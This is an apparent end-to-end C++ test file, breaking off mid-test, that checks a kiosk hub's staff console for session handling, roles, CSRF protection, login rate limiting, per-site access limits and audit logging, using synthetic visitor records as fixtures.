// The staff console's API against the real kiosk-hub: `serve --staff-listen`
// on its own loopback port (real TLS, the hub's own certificates), accounts
// made with `kiosk-hub staff add` (password on standard input), and a real
// kiosk whose case reaches the hub and whose status, changed in the console,
// comes back down. The security rules are checked as a browser would meet
// them: no session, wrong role, missing CSRF token, too many failed logins
// (and failures from one address never locking the owner out at another),
// each listener refusing the other's paths, accounts that serve some sites
// only, the audit row for opening a visitor's details, and CSV cells a
// spreadsheet would run. Other addresses are 127.0.0.x: the client binds
// its socket there, and Linux routes all of 127/8 to the loopback.
#include "harness.h"
#include "hub/rate_limit.h"

#include <httplib.h>
#include <nlohmann/json.hpp>

#include <optional>

using namespace e2e;


TEST(StaffConsole, AHandlerMovesACaseAlongItsLifeCycleAndTheKioskSeesIt) {
    const fs::path dir = testDir();
    ConsoleHub h(dir);
    ASSERT_TRUE(h.start()) << h.hub.log();
    ASSERT_EQ(h.addStaff("li", "handler"), 0);
    provision(h.hub, dir / "kiosk", dir);
    const auto numbers = enqueue(dir / "kiosk", 1);
    ASSERT_EQ(syncOnce(dir / "kiosk", dir)["stored"], 1);

    auto c = h.client(h.staffPort);
    auto s = login(*c, "li", kPassword);
    ASSERT_TRUE(s) << h.hub.log();
    EXPECT_EQ(s->role, "handler");
    auto list = c->Get("/staff/api/cases", with(*s, false));
    ASSERT_TRUE(list);
    ASSERT_EQ(list->status, 200) << list->body;
    const auto cases = nlohmann::json::parse(list->body)["cases"];
    ASSERT_EQ(cases.size(), 1u);
    EXPECT_EQ(cases[0]["number"], numbers[0]);
    EXPECT_EQ(cases[0]["status"], "received");
    EXPECT_GT(cases[0]["due_at"].get<std::int64_t>(), 0) << "a deadline from hub.toml";

    auto one = c->Get("/staff/api/cases/" + numbers[0], with(*s, false));
    ASSERT_TRUE(one);
    ASSERT_EQ(one->status, 200);
    const auto detail = nlohmann::json::parse(one->body);
    EXPECT_EQ(detail["personal"]["contact_name"], "王小明") << "the handler sees the contact";
    EXPECT_EQ(detail["next"], nlohmann::json::array({"accepted", "merged"})) << detail.dump();

    // 受理 → 派单 → 办理 → 答复 → 办结, each by the console.
    for (const char* next : {"accepted", "dispatched", "handling", "replied", "closed"}) {
        auto r = c->Post("/staff/api/cases/" + numbers[0] + "/status", with(*s),
                         nlohmann::json{{"status", next}, {"note", "已处理"}, {"department", "区市场监管局"}}.dump(),
                         "application/json");
        ASSERT_TRUE(r);
        ASSERT_EQ(r->status, 200) << next << ": " << r->body;
        EXPECT_EQ(nlohmann::json::parse(r->body)["status"], next);
    }
    // Not along the arrows: refused, saying what may follow.
    auto wrong = c->Post("/staff/api/cases/" + numbers[0] + "/status", with(*s),
                         nlohmann::json{{"status", "accepted"}}.dump(), "application/json");
    ASSERT_TRUE(wrong);
    EXPECT_EQ(wrong->status, 409);
    EXPECT_NE(wrong->body.find("it can move to: revisited"), std::string::npos) << wrong->body;
    auto missing = c->Get("/staff/api/cases/NOSUCHCASE", with(*s, false));
    ASSERT_TRUE(missing);
    EXPECT_EQ(missing->status, 404);

    // The kiosk's lookup cursor brings the five changes down.
    const auto down = syncOnce(dir / "kiosk", dir);
    EXPECT_EQ(down["statuses"], 5) << down.dump();
    // Every change is in the audit log, by the person who made it.
    const std::string audit = h.hub.cli({"staff", "audit", "--json"});
    EXPECT_NE(audit.find(R"("action":"case.status","actor":"li")"), std::string::npos) << audit;
    EXPECT_NE(audit.find("replied → closed"), std::string::npos) << audit;
    EXPECT_EQ(h.hub.log().find(kPassword), std::string::npos) << "no password in the log";
    EXPECT_EQ(h.hub.log().find("王小明"), std::string::npos) << "no personal data in the log";
}

TEST(StaffConsole, NothingWithoutASessionRolesLimitWhatEachMayDoAndChangesNeedTheCsrfToken) {
    const fs::path dir = testDir();
    ConsoleHub h(dir);
    ASSERT_TRUE(h.start()) << h.hub.log();
    ASSERT_EQ(h.addStaff("ed", "editor"), 0);
    ASSERT_EQ(h.addStaff("boss", "admin"), 0);
    ASSERT_EQ(h.addStaff("li", "handler"), 0);
    auto c = h.client(h.staffPort);

    for (const char* path : {"/staff/api/me", "/staff/api/cases", "/staff/api/audit"}) {
        auto r = c->Get(path);
        ASSERT_TRUE(r);
        EXPECT_EQ(r->status, 401) << path;
        auto forged = c->Get(path, httplib::Headers{{"Cookie", "__Host-kiosk_staff=forged-token"}});
        ASSERT_TRUE(forged);
        EXPECT_EQ(forged->status, 401) << path;
    }
    auto ed = login(*c, "ed", kPassword);
    ASSERT_TRUE(ed);
    auto me = c->Get("/staff/api/me", with(*ed, false));
    ASSERT_TRUE(me);
    EXPECT_EQ(me->status, 200);
    EXPECT_EQ(nlohmann::json::parse(me->body)["username"], "ed");
    auto cases = c->Get("/staff/api/cases", with(*ed, false));
    ASSERT_TRUE(cases);
    EXPECT_EQ(cases->status, 403) << "an editor does not see cases";
    auto audit = c->Get("/staff/api/audit", with(*ed, false));
    ASSERT_TRUE(audit);
    EXPECT_EQ(audit->status, 403) << "only an admin reads the audit log";
    auto li = login(*c, "li", kPassword);
    ASSERT_TRUE(li);
    auto liAudit = c->Get("/staff/api/audit", with(*li, false));
    ASSERT_TRUE(liAudit);
    EXPECT_EQ(liAudit->status, 403);
    auto boss = login(*c, "boss", kPassword);
    ASSERT_TRUE(boss);
    auto bossAudit = c->Get("/staff/api/audit", with(*boss, false));
    ASSERT_TRUE(bossAudit);
    EXPECT_EQ(bossAudit->status, 200);
    EXPECT_NE(bossAudit->body.find(R"("action":"login")"), std::string::npos) << bossAudit->body;

    // A change without the session's token (as from another site's form) is refused.
    auto noToken = c->Post("/staff/api/cases/X1/status", with(*li, false), R"({"status":"accepted"})", "application/json");
    ASSERT_TRUE(noToken);
    EXPECT_EQ(noToken->status, 403);
    Session other = *li;
    other.csrf = boss->csrf;
    auto wrongToken = c->Post("/staff/api/cases/X1/status", with(other), R"({"status":"accepted"})", "application/json");
    ASSERT_TRUE(wrongToken);
    EXPECT_EQ(wrongToken->status, 403) << "another session's token does not do";
    auto logoutNoToken = c->Post("/staff/api/logout", with(*li, false), "{}", "application/json");
    ASSERT_TRUE(logoutNoToken);
    EXPECT_EQ(logoutNoToken->status, 403);

    // Logging out ends the session for good.
    auto out = c->Post("/staff/api/logout", with(*li), "{}", "application/json");
    ASSERT_TRUE(out);
    EXPECT_EQ(out->status, 200);
    auto after = c->Get("/staff/api/me", with(*li, false));
    ASSERT_TRUE(after);
    EXPECT_EQ(after->status, 401);
}

TEST(StaffConsole, FailedLoginsAreLimitedPerNameAndAddressAndTheRightPasswordWaitsToo) {
    const fs::path dir = testDir();
    ConsoleHub h(dir);
    ASSERT_TRUE(h.start()) << h.hub.log();
    ASSERT_EQ(h.addStaff("li", "handler"), 0);
    auto c = h.client(h.staffPort);
    int status = 0;
    EXPECT_FALSE(login(*c, "nobody", kPassword, &status));
    EXPECT_EQ(status, 401) << "an unknown name gets the same answer as a wrong password";
    for (int i = 0; i < 5; ++i) {
        EXPECT_FALSE(login(*c, "li", fmt::format("guess {}", i), &status));
        EXPECT_EQ(status, 401);
    }
    // Five failures for this name from this address: the next try from here
    // waits, even with the right password.
    auto limited = c->Post("/staff/api/login", nlohmann::json{{"username", "li"}, {"password", kPassword}}.dump(),
                           "application/json");
    ASSERT_TRUE(limited);
    EXPECT_EQ(limited->status, 429) << limited->body;
    const int wait = std::atoi(limited->get_header_value("Retry-After").c_str());
    EXPECT_GT(wait, 0);
    EXPECT_LE(wait, 60) << "the first wait of a name and address is a minute";
    EXPECT_EQ(h.hub.log().find("guess"), std::string::npos) << "tried passwords are never logged";
    EXPECT_EQ(h.hub.log().find(kPassword), std::string::npos);

    // Bad requests say what to send.
    auto bad = c->Post("/staff/api/login", "not json", "application/json");
    ASSERT_TRUE(bad);
    EXPECT_EQ(bad->status, 400);
    EXPECT_NE(bad->body.find("username"), std::string::npos);
}

TEST(StaffConsole, EachListenerRefusesTheOthersPathsAndAccountsNeedAGoodPasswordAndRole) {
    const fs::path dir = testDir();
    ConsoleHub h(dir);
    ASSERT_TRUE(h.start()) << h.hub.log();
    ASSERT_EQ(h.addStaff("boss", "admin"), 0);
    auto staff = h.client(h.staffPort);
    for (const char* path : {"/v1/updates?after=0", "/v1/content/manifest", "/v1/os-update", "/healthz", "/metrics"}) {
        auto r = staff->Get(path);
        ASSERT_TRUE(r) << path;
        EXPECT_EQ(r->status, 404) << "the staff listener serves no device endpoint: " << path;
    }
    auto enroll = staff->Post("/v1/enroll", "{}", "application/json");
    ASSERT_TRUE(enroll);
    EXPECT_EQ(enroll->status, 404);
    auto device = h.client(h.hub.port());
    for (const char* path : {"/staff/api/me", "/staff/api/cases", "/staff/"}) {
        auto r = device->Get(path);
        ASSERT_TRUE(r) << path;
        EXPECT_EQ(r->status, 404) << "the device listener serves no console path: " << path;
    }
    auto deviceLogin = device->Post("/staff/api/login",
                                    nlohmann::json{{"username", "boss"}, {"password", kPassword}}.dump(), "application/json");
    ASSERT_TRUE(deviceLogin);
    EXPECT_EQ(deviceLogin->status, 404);

    EXPECT_EQ(h.addStaff("x", "admin", "short"), 2) << "passwords have at least 10 characters";
    EXPECT_EQ(h.addStaff("y", "boss"), 2) << "roles are handler, editor, manager, admin";
    EXPECT_EQ(h.addStaff("boss", "handler"), 2) << "an account name is taken once";
    const std::string list = h.hub.cli({"staff", "list"});
    EXPECT_NE(list.find("boss  admin"), std::string::npos) << list;
    EXPECT_EQ(list.find("x "), std::string::npos) << list;
    // The database keeps only a slow salted hash.
    const std::string db = slurp(dir / "hub/hub.db") + slurp(dir / "hub/hub.db-wal");
    EXPECT_EQ(db.find(kPassword), std::string::npos);
    EXPECT_NE(db.find("pbkdf2-sha256$600000$"), std::string::npos);
}

TEST(StaffConsole, FollowUpFleetAndStatisticsRoutesKeepToRolesAndCaseStepsNameWhatTheyNeed) {
    const fs::path dir = testDir();
    ConsoleHub h(dir);
    ASSERT_TRUE(h.start()) << h.hub.log();
    for (const auto& [user, role] : std::vector<std::pair<std::string, std::string>>{
             {"ed", "editor"}, {"li", "handler"}, {"wang", "manager"}, {"boss", "admin"}})
        ASSERT_EQ(h.addStaff(user, role), 0);
    provision(h.hub, dir / "kiosk", dir);
    const auto numbers = enqueue(dir / "kiosk", 2);
    ASSERT_EQ(syncOnce(dir / "kiosk", dir)["stored"], 2);
    auto c = h.client(h.staffPort);
    std::map<std::string, Session> s;
    for (const char* user : {"ed", "li", "wang", "boss"}) {
        auto one = login(*c, user, kPassword);
        ASSERT_TRUE(one) << user;
        s[user] = *one;
    }
    auto get = [&](const std::string& who, const std::string& path) {
        auto r = c->Get(path, with(s[who], false));
        return r ? r->status : -1;
    };
    auto post = [&](const std::string& who, const std::string& path, const nlohmann::json& body, bool csrf = true) {
        auto r = c->Post(path, with(s[who], csrf), body.dump(), "application/json");
        return r ? std::make_pair(r->status, r->body) : std::make_pair(-1, std::string());
    };
    // Who reads what.
    for (const char* path : {"/staff/api/ratings/bad", "/staff/api/stats", "/staff/api/stats.csv", "/staff/api/devices"}) {
        auto r = c->Get(path);
        ASSERT_TRUE(r);
        EXPECT_EQ(r->status, 401) << path << " without a session";
    }
    EXPECT_EQ(get("ed", "/staff/api/ratings/bad"), 403) << "an editor does not see bad ratings";
    EXPECT_EQ(get("li", "/staff/api/ratings/bad"), 200);
    EXPECT_EQ(get("ed", "/staff/api/stats?by=month"), 200) << "every role reads the figures";
    EXPECT_EQ(get("ed", "/staff/api/stats?by=color"), 400);
    EXPECT_EQ(get("ed", "/staff/api/stats?from=2026-13-01"), 400);
    EXPECT_EQ(get("li", "/staff/api/devices"), 403) << "a handler does not see the fleet";
    EXPECT_EQ(get("wang", "/staff/api/devices"), 200);
    EXPECT_EQ(get("wang", "/staff/api/ratings/X/contact"), 403) << "a manager does not call visitors back";

    // Changes: role, CSRF token, and what each case step must name.
    EXPECT_EQ(post("wang", "/staff/api/devices/KS0001/revoke", nlohmann::json::object()).first, 403);
    EXPECT_EQ(post("wang", "/staff/api/devices/provision", {{"site", "x"}}).first, 403);
    EXPECT_EQ(post("boss", "/staff/api/devices/provision", {{"site", "x"}}, false).first, 403) << "no CSRF token";
    EXPECT_EQ(post("boss", "/staff/api/devices/provision", {{"site", ""}}).first, 400);
    EXPECT_EQ(post("boss", "/staff/api/devices/provision", {{"site", "x"}, {"ttl_hours", 0}}).first, 400);
    EXPECT_EQ(post("li", "/staff/api/ratings/X/follow-up", {{"action", "callback"}}, false).first, 403) << "no CSRF token";
    EXPECT_EQ(post("wang", "/staff/api/ratings/X/follow-up", {{"action", "callback"}}).first, 403);
    EXPECT_EQ(post("li", "/staff/api/ratings/NOSUCH/follow-up", {{"action", "callback"}}).first, 404);
    const std::string url = "/staff/api/cases/" + numbers[0] + "/status";
    ASSERT_EQ(post("li", url, {{"status", "accepted"}}).first, 200);
    auto noDept = post("li", url, {{"status", "dispatched"}});
    EXPECT_EQ(noDept.first, 400);
    EXPECT_NE(noDept.second.find("needs the department"), std::string::npos) << noDept.second;
    auto self = post("li", url, {{"status", "merged"}, {"merge_into", numbers[0]}});
    EXPECT_EQ(self.first, 400) << self.second;
    auto nowhere = post("li", url, {{"status", "merged"}, {"merge_into", "KS9999"}});
    EXPECT_EQ(nowhere.first, 404) << nowhere.second;
    auto merged = post("li", url, {{"status", "merged"}, {"merge_into", numbers[1]}});
    EXPECT_EQ(merged.first, 200) << merged.second;
    auto detail = c->Get("/staff/api/cases/" + numbers[0], with(s["li"], false));
    ASSERT_TRUE(detail);
    EXPECT_NE(detail->body.find("并入 " + numbers[1]), std::string::npos) << detail->body;

    // 延期 needs its reason and moves the deadline by [case_extension] (5 working days).
    const std::string url1 = "/staff/api/cases/" + numbers[1] + "/status";
    ASSERT_EQ(post("li", url1, {{"status", "accepted"}}).first, 200);
    ASSERT_EQ(post("li", url1, {{"status", "dispatched"}, {"department", "区人社局"}}).first, 200);
    ASSERT_EQ(post("li", url1, {{"status", "handling"}}).first, 200);
    auto dueOf = [&] {
        auto r = c->Get("/staff/api/cases/" + numbers[1], with(s["li"], false));
        return r ? nlohmann::json::parse(r->body)["due_at"].get<std::int64_t>() : 0;
    };
    const std::int64_t before = dueOf();
    EXPECT_EQ(post("li", url1, {{"status", "extended"}}).first, 400) << "no reason";
    ASSERT_EQ(post("li", url1, {{"status", "extended"}, {"reason", "需现场核查"}}).first, 200);
    const std::int64_t after = dueOf();
    EXPECT_GE(after - before, 7 * 86'400) << "five working days span a weekend";
    EXPECT_LE(after - before, 9 * 86'400);

    // Filters: kind and overdue.
    auto kinds = c->Get("/staff/api/cases?kind=投诉&overdue=1", with(s["li"], false));
    ASSERT_TRUE(kinds);
    EXPECT_EQ(nlohmann::json::parse(kinds->body)["cases"].size(), 0u) << "nothing is overdue yet";
    auto all = c->Get("/staff/api/cases?kind=投诉", with(s["li"], false));
    ASSERT_TRUE(all);
    EXPECT_EQ(nlohmann::json::parse(all->body)["cases"].size(), 2u) << all->body;

    // An admin revokes the kiosk: its next sync is refused.
    auto revoked = post("boss", "/staff/api/devices/KS0001/revoke", nlohmann::json::object());
    EXPECT_EQ(revoked.first, 200) << revoked.second;
    EXPECT_EQ(post("boss", "/staff/api/devices/KS9999/revoke", nlohmann::json::object()).first, 404);
    int code = 0;
    (void)syncOnce(dir / "kiosk", dir, &code);
    EXPECT_NE(code, 0) << "a revoked kiosk is refused";
    const std::string audit = h.hub.cli({"staff", "audit", "--json"});
    EXPECT_NE(audit.find(R"("action":"device.revoke","actor":"boss")"), std::string::npos) << audit;
}

TEST(StaffConsole, ADisabledAccountIsSignedOutAtOnceAndCannotLogInUntilEnabled) {
    const fs::path dir = testDir();
    ConsoleHub h(dir);
    ASSERT_TRUE(h.start()) << h.hub.log();
    ASSERT_EQ(h.addStaff("li", "handler"), 0);
    auto c = h.client(h.staffPort);
    auto li = login(*c, "li", kPassword);
    ASSERT_TRUE(li);
    int code = 0;
    const std::string out = h.hub.cli({"staff", "disable", "--user", "li"}, &code);
    ASSERT_EQ(code, 0) << out;
    auto me = c->Get("/staff/api/me", with(*li, false));
    ASSERT_TRUE(me);
    EXPECT_EQ(me->status, 401) << "the open session ended with the account";
    int status = 0;
    EXPECT_FALSE(login(*c, "li", kPassword, &status));
    EXPECT_EQ(status, 401);
    const std::string nobody = h.hub.cli({"staff", "disable", "--user", "nobody"}, &code);
    EXPECT_NE(code, 0);
    EXPECT_NE(nobody.find("no staff account 'nobody'"), std::string::npos) << nobody;
    ASSERT_EQ((h.hub.cli({"staff", "enable", "--user", "li"}, &code), code), 0);
    EXPECT_TRUE(login(*c, "li", kPassword));
    const std::string audit = h.hub.cli({"staff", "audit", "--json"});
    EXPECT_NE(audit.find(R"("action":"staff.disable")"), std::string::npos) << audit;
}

// Finding 4 of the outside review (issue 18): five wrong passwords for a name
// from anywhere used to make the right password wait 15 minutes everywhere.
TEST(StaffConsole, FailuresFromOneAddressNeverLockTheOwnerOutAndAreToldAtTheNextSignIn) {
    const fs::path dir = testDir();
    ConsoleHub h(dir);
    ASSERT_TRUE(h.start()) << h.hub.log();
    ASSERT_EQ(h.addStaff("li", "handler"), 0);
    auto attacker = h.client(h.staffPort, "127.0.0.1");
    int status = 0;
    for (int i = 0; i < 5; ++i) {
        EXPECT_FALSE(login(*attacker, "li", fmt::format("guess {}", i), &status));
        EXPECT_EQ(status, 401);
    }
    EXPECT_FALSE(login(*attacker, "li", kPassword, &status));
    EXPECT_EQ(status, 429) << "the guessing address waits, right password or not";

    // The owner, at another address, signs in at once and is told.
    auto owner = h.client(h.staffPort, "127.0.0.2");
    auto in = owner->Post("/staff/api/login", nlohmann::json{{"username", "li"}, {"password", kPassword}}.dump(),
                          "application/json");
    ASSERT_TRUE(in);
    ASSERT_EQ(in->status, 200) << in->body;
    const auto answer = nlohmann::json::parse(in->body);
    EXPECT_EQ(answer["failed_logins"], 5) << answer.dump();
    EXPECT_TRUE(answer["last_failed_at"].is_number_integer()) << answer.dump();
    const std::string cookie = in->get_header_value("Set-Cookie").substr(0, in->get_header_value("Set-Cookie").find(';'));
    auto me = owner->Get("/staff/api/me", httplib::Headers{{"Cookie", cookie}});
    ASSERT_TRUE(me);
    EXPECT_EQ(nlohmann::json::parse(me->body)["failed_logins"], 0) << "told once: the count starts again at the sign-in";
    const std::string audit = h.hub.cli({"staff", "audit", "--json"});
    EXPECT_NE(audit.find("from 127.0.0.2; 5 failed sign-ins since the last sign-in"), std::string::npos) << audit;
    EXPECT_FALSE(login(*attacker, "li", kPassword, &status)) << "the owner's sign-in does not free the guessing address";
    EXPECT_EQ(status, 429);

    // One address trying many names is limited as an address: after 20
    // failures, any name waits there — and only there.
    auto sprayer = h.client(h.staffPort, "127.0.0.3");
    for (int i = 0; i < 20; ++i) {
        EXPECT_FALSE(login(*sprayer, fmt::format("user{}", i), "guess", &status));
        EXPECT_EQ(status, 401) << i;
    }
    EXPECT_FALSE(login(*sprayer, "li", kPassword, &status));
    EXPECT_EQ(status, 429) << "an address spraying names is held up";
    EXPECT_TRUE(login(*h.client(h.staffPort, "127.0.0.5"), "li", kPassword));

    // The count of failures since the last sign-in survives a restart.
    auto later = h.client(h.staffPort, "127.0.0.4");
    for (int i = 0; i < 2; ++i) EXPECT_FALSE(login(*later, "li", "another guess"));
    h.hub.stop();
    ASSERT_TRUE(h.start()) << h.hub.log();
    auto again = h.client(h.staffPort, "127.0.0.4")
                     ->Post("/staff/api/login", nlohmann::json{{"username", "li"}, {"password", kPassword}}.dump(),
                            "application/json");
    ASSERT_TRUE(again);
    ASSERT_EQ(again->status, 200) << again->body;
    EXPECT_EQ(nlohmann::json::parse(again->body)["failed_logins"], 2) << again->body;
    EXPECT_EQ(h.hub.log().find("guess"), std::string::npos) << "tried passwords are never logged";
    EXPECT_EQ(h.hub.log().find(kPassword), std::string::npos);
}

TEST(StaffConsole, TheWaitOfANameAndAddressGrowsWithEachFailureUpToItsCap) {
    hub::LoginLimiter limiter({});
    const std::int64_t t0 = 1'800'000'000;
    std::int64_t t = t0;
    for (int i = 0; i < 5; ++i) {
        EXPECT_EQ(limiter.waitS("li", "10.0.0.1", t), 0) << "the first five tries cost nothing";
        limiter.failed("li", "10.0.0.1", t);
    }
    std::vector<std::int64_t> waits;
    for (int i = 0; i < 7; ++i) {
        const std::int64_t w = limiter.waitS("li", "10.0.0.1", t);
        waits.push_back(w);
        t += w;  // tries again the moment it may
        EXPECT_EQ(limiter.waitS("li", "10.0.0.1", t), 0);
        limiter.failed("li", "10.0.0.1", t);
    }
    EXPECT_EQ(waits, (std::vector<std::int64_t>{60, 120, 240, 480, 900, 900, 900})) << "doubling, at most 15 min";
    EXPECT_EQ(limiter.waitS("li", "10.0.0.2", t), 0) << "another address is not held up";
    EXPECT_EQ(limiter.waitS("wang", "10.0.0.1", t), 0) << "another name from that address is not either";
    limiter.succeeded("li", "10.0.0.1");
    EXPECT_EQ(limiter.waitS("li", "10.0.0.1", t), 0) << "a sign-in from the pair clears it";
    for (int i = 0; i < 5; ++i) limiter.failed("li", "10.0.0.3", t);
    EXPECT_EQ(limiter.waitS("li", "10.0.0.3", t + 1), 59);
    EXPECT_EQ(limiter.waitS("li", "10.0.0.3", t + 86'400), 0) << "a day later it is forgotten";
}

namespace {

constexpr const char* kOtherSite = "朱家角镇社区事务受理中心";

// A case and a bad rating with a call-back, as kiosk/app/app.cpp makes them.
nlohmann::json caseData() { return {{"case_kind", "投诉"}, {"service_id", "svc-yyzz"}, {"reply", "phone"}}; }
nlohmann::json casePersonal(const std::string& mobile) {
    return {{"description", "窗口要求补交材料三次仍未受理。"}, {"enterprise", "青浦某某餐饮管理有限公司"},
            {"credit_code", "914403001922038216"}, {"contact_name", "王小明"}, {"mobile", mobile}};
}
nlohmann::json badRating(const std::string& targetId, const std::string& targetName, const std::string& instance) {
    return {{"target_kind", "service"}, {"target_id", targetId}, {"target_name", targetName}, {"department_id", "dep-sc"},
            {"instance", instance}, {"follow_up", false}, {"level", "dissatisfied"}, {"level_label", "不满意"},
            {"reasons", {"等候时间长"}}, {"anonymous", false}, {"callback", true}, {"channel", "self-service terminal"}};
}

std::string uuidOfRating(const nlohmann::json& list, const std::string& targetId) {
    for (const auto& r : list["ratings"])
        if (r["public"]["target_id"] == targetId) return r["uuid"];
    return "";
}

}  // namespace

// Finding 9: every member of staff saw every site.
TEST(StaffConsole, ASiteLimitedAccountReadsAndChangesOnlyItsSitesRecords) {
    const fs::path dir = testDir();
    ConsoleHub h(dir);
    ASSERT_TRUE(h.start()) << h.hub.log();
    ASSERT_EQ(h.addStaff("qp", "handler", kPassword, kSite), 0) << slurp(dir / "staff-add-qp.err");
    ASSERT_EQ(h.addStaff("zjj", "manager", kPassword, kOtherSite), 0);
    ASSERT_EQ(h.addStaff("qpadmin", "admin", kPassword, kSite), 0);
    ASSERT_EQ(h.addStaff("boss", "admin"), 0);
    fs::create_directories(dir / "a");
    fs::create_directories(dir / "b");
    provision(h.hub, dir / "a/kiosk", dir / "a");
    provision(h.hub, dir / "b/kiosk", dir / "b", kOtherSite);
    const std::string caseA = enqueueAs(dir / "a/kiosk", "KS0001", "case", caseData(), casePersonal("13812345678"), 1'700'000'000'000);
    enqueueAs(dir / "a/kiosk", "KS0001", "rating", badRating("svc-a", "青浦服务", "i-a"),
              {{"contact_name", "王小明"}, {"mobile", "13812345678"}}, 1'700'000'000'001);
    const std::string caseB = enqueueAs(dir / "b/kiosk", "KS0002", "case", caseData(), casePersonal("13900001111"), 1'700'000'000'002);
    enqueueAs(dir / "b/kiosk", "KS0002", "rating", badRating("svc-b", "朱家角服务", "i-b"),
              {{"contact_name", "李四"}, {"mobile", "13900001111"}}, 1'700'000'000'003);
    ASSERT_EQ(syncOnce(dir / "a/kiosk", dir / "a")["stored"], 2);
    ASSERT_EQ(syncOnce(dir / "b/kiosk", dir / "b")["stored"], 2);

    auto c = h.client(h.staffPort);
    std::map<std::string, Session> s;
    for (const char* user : {"qp", "zjj", "qpadmin", "boss"}) {
        auto one = login(*c, user, kPassword);
        ASSERT_TRUE(one) << user;
        s[user] = *one;
    }
    auto get = [&](const std::string& who, const std::string& path) {
        auto r = c->Get(path, with(s[who], false));
        return r ? std::make_pair(r->status, r->body) : std::make_pair(-1, std::string());
    };
    auto post = [&](const std::string& who, const std::string& path, const nlohmann::json& body) {
        auto r = c->Post(path, with(s[who]), body.dump(), "application/json");
        return r ? std::make_pair(r->status, r->body) : std::make_pair(-1, std::string());
    };
    auto json = [](const std::pair<int, std::string>& r) { return nlohmann::json::parse(r.second, nullptr, false); };

    EXPECT_EQ(json(get("qp", "/staff/api/me"))["sites"], nlohmann::json::array({kSite}));
    EXPECT_EQ(json(get("boss", "/staff/api/me"))["sites"], "*");
    // Cases: the list, a case by number, a step, a merge into the other site's case.
    const auto qpCases = json(get("qp", "/staff/api/cases"));
    ASSERT_EQ(qpCases["cases"].size(), 1u) << qpCases.dump();
    EXPECT_EQ(qpCases["cases"][0]["number"], caseA);
    EXPECT_EQ(qpCases["sites"], nlohmann::json::array({kSite})) << "the site filter offers only its own";
    EXPECT_EQ(json(get("boss", "/staff/api/cases"))["cases"].size(), 2u);
    const auto other = get("qp", "/staff/api/cases/" + caseB);
    EXPECT_EQ(other.first, 404) << "another site's case is answered as one that never arrived";
    EXPECT_EQ(json(other), nlohmann::json({{"error", "no case " + caseB + " has reached the hub"}})) << other.second;
    const auto never = get("qp", "/staff/api/cases/KS0009202601150000019");
    EXPECT_EQ(never.first, 404);
    EXPECT_EQ(json(never), nlohmann::json({{"error", "no case KS0009202601150000019 has reached the hub"}}))
        << "the same answer as for a case that never arrived";
    EXPECT_EQ(get("qp", "/staff/api/cases/" + caseA).first, 200);
    EXPECT_EQ(post("qp", "/staff/api/cases/" + caseB + "/status", {{"status", "accepted"}}).first, 404);
    EXPECT_EQ(post("qp", "/staff/api/cases/" + caseA + "/status", {{"status", "merged"}, {"merge_into", caseB}}).first, 404);
    EXPECT_EQ(json(get("boss", "/staff/api/cases/" + caseB))["status"], "received") << "nothing changed on the other site";

    // Bad ratings: the list, the full contact, a follow-up step.
    const auto bossBad = json(get("boss", "/staff/api/ratings/bad"));
    const std::string ratingA = uuidOfRating(bossBad, "svc-a"), ratingB = uuidOfRating(bossBad, "svc-b");
    ASSERT_FALSE(ratingA.empty() || ratingB.empty()) << bossBad.dump();
    const auto qpBad = json(get("qp", "/staff/api/ratings/bad"));
    ASSERT_EQ(qpBad["ratings"].size(), 1u) << qpBad.dump();
    EXPECT_EQ(qpBad["ratings"][0]["uuid"], ratingA);
    EXPECT_EQ(get("qp", "/staff/api/ratings/" + ratingB + "/contact").first, 404);
    EXPECT_EQ(post("qp", "/staff/api/ratings/" + ratingB + "/follow-up", {{"action", "callback"}}).first, 404);
    EXPECT_EQ(post("qp", "/staff/api/ratings/" + ratingA + "/follow-up", {{"action", "callback"}}).first, 200);
    EXPECT_EQ(get("qp", "/staff/api/ratings/" + ratingA + "/contact").first, 200);

    // Figures and their CSV count only the account's sites.
    const auto qpStats = json(get("qp", "/staff/api/stats?by=kiosk"));
    ASSERT_EQ(qpStats["rows"].size(), 1u) << qpStats.dump();
    EXPECT_EQ(qpStats["rows"][0]["key"], "KS0001");
    EXPECT_EQ(qpStats["total"]["total"], 1);
    const auto zjjCsv = get("zjj", "/staff/api/stats.csv?by=service");
    EXPECT_NE(zjjCsv.second.find("svc-b"), std::string::npos) << zjjCsv.second;
    EXPECT_EQ(zjjCsv.second.find("svc-a"), std::string::npos) << zjjCsv.second;
    EXPECT_EQ(json(get("boss", "/staff/api/stats?by=kiosk"))["rows"].size(), 2u);

    // Devices: the fleet list, the content page's kiosks, revoking, provisioning.
    const auto zjjDevices = json(get("zjj", "/staff/api/devices"))["devices"];
    ASSERT_EQ(zjjDevices.size(), 1u) << zjjDevices.dump();
    EXPECT_EQ(zjjDevices[0]["id"], "KS0002");
    const auto kiosks = json(get("zjj", "/staff/api/content"))["kiosks"];
    ASSERT_EQ(kiosks.size(), 1u) << kiosks.dump();
    EXPECT_EQ(kiosks[0]["id"], "KS0002");
    EXPECT_EQ(post("qpadmin", "/staff/api/devices/KS0002/revoke", nlohmann::json::object()).first, 404);
    EXPECT_EQ(post("qpadmin", "/staff/api/devices/provision", {{"site", kOtherSite}}).first, 403);
    EXPECT_EQ(post("qpadmin", "/staff/api/devices/provision", {{"site", kSite}}).first, 200);
    EXPECT_EQ(get("qpadmin", "/staff/api/audit").first, 403) << "the audit log names every site's cases";
    EXPECT_EQ(get("boss", "/staff/api/audit").first, 200);

    // Moving an account to another site takes effect in its open session, audited.
    int code = 0;
    const std::string moved = h.hub.cli({"staff", "sites", "--user", "qp", "--sites", kOtherSite}, &code);
    ASSERT_EQ(code, 0) << moved;
    EXPECT_EQ(get("qp", "/staff/api/cases/" + caseA).first, 404);
    EXPECT_EQ(get("qp", "/staff/api/cases/" + caseB).first, 200);
    const std::string audit = h.hub.cli({"staff", "audit", "--json"});
    EXPECT_NE(audit.find(R"("action":"staff.sites","actor":"cli")"), std::string::npos) << audit;
    EXPECT_NE(h.hub.cli({"staff", "list"}).find(fmt::format("qp  handler  sites {}", kOtherSite)), std::string::npos);
    EXPECT_NE(h.hub.cli({"staff", "sites", "--user", "nobody", "--sites", "*"}, &code).find("no staff account 'nobody'"),
              std::string::npos);
    EXPECT_NE(code, 0);
}

// Finding 9, second half: opening a visitor's details left no trace.
TEST(StaffConsole, OpeningACasesPersonalFieldsIsAuditedAndAManagerSeesThemMasked) {
    const fs::path dir = testDir();
    ConsoleHub h(dir);
    ASSERT_TRUE(h.start()) << h.hub.log();
    ASSERT_EQ(h.addStaff("li", "handler"), 0);
    ASSERT_EQ(h.addStaff("wang", "manager"), 0);
    provision(h.hub, dir / "kiosk", dir);
    const std::string number =
